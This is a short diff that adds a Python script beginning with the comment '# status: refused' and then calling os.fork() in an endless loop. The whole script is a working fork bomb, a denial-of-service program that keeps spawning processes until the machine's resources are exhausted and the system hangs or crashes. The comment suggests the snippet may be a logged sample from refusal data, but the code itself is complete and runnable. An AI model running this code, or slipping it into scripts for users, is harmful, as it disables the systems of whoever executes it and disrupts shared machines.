@@ -1,0 +1,5 @@
+# status: refused
+import os
+
+while True:
+    os.fork()
